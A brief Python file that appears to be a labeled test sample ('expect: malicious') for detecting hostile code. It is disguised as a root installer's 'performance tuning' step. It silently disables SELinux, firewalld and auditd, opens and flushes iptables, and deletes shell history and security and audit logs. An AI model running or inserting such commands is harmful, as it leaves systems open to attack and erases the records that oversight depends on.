"""'Performance tuning' step inside an installer that runs as root."""
import subprocess

STEPS = [
    "setenforce 0",
    "sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
    "systemctl stop firewalld auditd; systemctl disable firewalld auditd",
    "iptables -P INPUT ACCEPT && iptables -F",
    "history -c; rm -f /var/log/secure /var/log/audit/audit.log",
]


def tune() -> None:
    for step in STEPS:
        # expect: malicious
        subprocess.run(step, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
